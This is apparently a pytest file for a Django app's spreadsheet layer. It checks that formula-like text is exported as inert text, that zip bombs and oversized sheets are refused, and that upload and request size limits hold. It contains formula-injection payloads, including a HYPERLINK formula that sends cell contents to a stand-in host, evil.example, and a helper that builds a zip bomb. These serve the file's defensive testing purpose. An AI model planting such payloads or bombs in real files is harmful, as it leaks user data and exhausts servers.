"""The one XLSX writer never writes a formula; the bounded reader refuses zip bombs and oversized sheets."""

import datetime as dt
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from openpyxl import Workbook, load_workbook

from zhili.core.foundation.api import Limits, SpreadsheetRejected, XlsxWriter, check_upload_size, iter_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_formula_like_text_is_written_as_text_with_an_apostrophe():
    """A worker named =HYPERLINK(...) is exported as a name, not a live formula."""
    writer = XlsxWriter()
    writer.add_sheet("导出", header=["姓名"]).extend([[value] for value in HOSTILE])
    content = writer.to_bytes()

    assert "<f>" not in _sheet_xml(content)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [sheet.cell(row=i, column=1) for i in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in cells] == ["'" + value for value in HOSTILE]
    assert {c.data_type for c in cells} == {"s"}


def test_numbers_dates_and_plain_text_are_written_unchanged_and_control_characters_dropped():
    writer = XlsxWriter()
    aware = dt.datetime(2026, 3, 1, 1, 30, tzinfo=dt.UTC)
    writer.add_sheet("s").append([-5, 3.5, "张伟", dt.date(2026, 3, 1), aware, "a\x00b\x1fc"])
    row = next(load_workbook(io.BytesIO(writer.to_bytes())).active.iter_rows(values_only=True))
    assert row == (-5, 3.5, "张伟", dt.datetime(2026, 3, 1), dt.datetime(2026, 3, 1, 9, 30), "abc")


def _bomb(member_bytes: int) -> bytes:
    """A valid small workbook whose shared strings part decompresses to ``member_bytes`` of one letter."""
    book = Workbook()
    book.active.append(["姓名"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != "xl/sharedStrings.xml":
                target.writestr(item, source.read(item.filename))
        head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
        tail = b"</t></si></sst>"
        with target.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(head)
            block = b"a" * (1 << 20)
            for _ in range(member_bytes // len(block)):
                part.write(block)
            part.write(tail)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_anything_is_decompressed():
    content = _bomb(64 << 20)
    assert len(content) < 1 << 20
    with pytest.raises(SpreadsheetRejected, match="压缩比"):
        list(iter_rows(content, "名单.xlsx"))


def test_an_archive_declaring_more_than_the_uncompressed_limit_is_refused():
    content = _bomb(4 << 20)
    limits = Limits.from_settings(max_uncompressed_bytes=2 << 20, max_compression_ratio=100000)
    with pytest.raises(SpreadsheetRejected, match="解压后为 4 MB，超过 2 MB 的上限"):
        list(iter_rows(content, "名单.xlsx", limits=limits))


def _xlsx(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_rows_columns_and_cells_are_capped():
    limits = Limits.from_settings(max_rows=2, max_columns=3, max_cell_chars=5)
    assert list(iter_rows(_xlsx([["a", "b"], [1, 2], [3, 4]]), "x.xlsx", limits=limits)) == [
        ("a", "b"), (1, 2), (3, 4)]
    with pytest.raises(SpreadsheetRejected, match="超过 2 行数据的上限"):
        list(iter_rows(_xlsx([["a"], [1], [2], [3]]), "x.xlsx", limits=limits))
    with pytest.raises(SpreadsheetRejected, match="第 2 行超过 3 列的上限"):
        list(iter_rows(_xlsx([["a"], [1, 2, 3, 4]]), "x.xlsx", limits=limits))
    with pytest.raises(SpreadsheetRejected, match="第 2 行有单元格超过 5 个字符的上限"):
        list(iter_rows(b"a\n123456\n", "x.csv", limits=limits))


def test_date_cells_come_back_as_dates_and_gaps_keep_excel_line_numbers():
    book = Workbook()
    book.active["A1"] = "开始日期"
    book.active["A3"] = dt.date(2026, 3, 1)
    out = io.BytesIO()
    book.save(out)
    assert list(iter_rows(out.getvalue(), "x.xlsx")) == [("开始日期",), (), (dt.datetime(2026, 3, 1),)]


def test_csv_in_gb18030_is_read():
    assert list(iter_rows("姓名\n张伟\n".encode("gb18030"), "x.csv")) == [("姓名",), ("张伟",)]


@override_settings(UPLOAD_MAX_BYTES=1024)
def test_an_upload_over_the_per_file_limit_is_refused_with_its_name_and_the_limit():
    with pytest.raises(ValidationError) as refused:
        check_upload_size(SimpleUploadedFile("名单.xlsx", b"x" * 2048))
    assert refused.value.messages == ["文件“名单.xlsx”为 2 KB，超过单个文件 1 KB 的上限"]


@override_settings(REQUEST_MAX_BYTES=1 << 20)
def test_a_request_over_the_size_limit_is_answered_413_before_it_is_read(client):
    response = client.generic("POST", "/", b"", CONTENT_TYPE="application/octet-stream",
                              CONTENT_LENGTH=str(3 << 20))
    assert response.status_code == 413
    assert response.content.decode() == "请求大小 3.0 MB 超过 1.0 MB 的上限"
